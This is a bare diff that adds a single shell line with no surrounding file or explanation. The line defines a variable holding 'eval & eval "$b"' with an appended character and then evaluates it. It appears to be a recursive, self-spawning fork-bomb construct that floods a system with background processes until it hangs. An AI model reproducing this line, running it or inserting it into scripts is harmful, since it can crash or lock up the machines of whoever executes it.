@@ -1,0 +1,1 @@
+b='eval & eval "$b"'x; eval "$b"
